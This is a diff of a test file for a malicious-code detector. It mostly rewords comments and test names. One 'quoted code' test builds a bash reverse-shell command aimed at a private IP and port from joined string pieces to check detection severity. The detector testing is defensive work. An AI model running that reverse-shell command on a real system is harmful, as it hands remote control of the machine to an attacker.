@@ -3,12 +3,12 @@ import { describe, expect, test } from 'vitest'
 import { hostileText } from '../../../../test/support/hostile-text.ts'
 import { MALICIOUS_CODE_RULES, createMaliciousCodeDetector } from './malicious-code-detector.ts'
 
-/** The parts of a sample; they are joined here so that no file holds live code. */
+/** The parts of a sample; joined here so that no file contains live code. */
 type Sample = readonly string[]
 
 interface Samples {
   readonly found: readonly Sample[]
-  /** The benign twins: they look alike and are ordinary. */
+  /** The benign twins: similar code that is ordinary. */
   readonly clean: readonly Sample[]
 }
 
@@ -349,14 +349,14 @@ describe.each(Object.entries(SAMPLES))('%s', (type, { found, clean }) => {
     expect(typesIn(text)).toContain(type)
   })
   test.each(clean.map((parts, number) => ({ text: parts.join(''), number })))(
-    'is not seen in its twin ($number)',
+    'is not found in its twin ($number)',
     ({ text }) => {
       expect(typesIn(text)).toEqual([])
     },
   )
 })
 
-describe('code that is spoken of', () => {
+describe('quoted code', () => {
   const shell = ['bash -i >& /dev', '/tcp/10.0.0.1/4444 0>&1'].join('')
   const severity = (text: string): string | undefined => detector.detect(text, 'agent')[0]?.severity
 
@@ -387,7 +387,7 @@ describe('code that is spoken of', () => {
   })
 })
 
-test('takes any text, and its matches lie in it, in order and apart', () => {
+test('accepts any text; matches are within it, in order and disjoint', () => {
   const codish = fc
     .array(
       fc.constantFrom(...Object.values(SAMPLES).flatMap(({ found }) => found.flat()), '\n', '"', "'", '😀', ' | '),
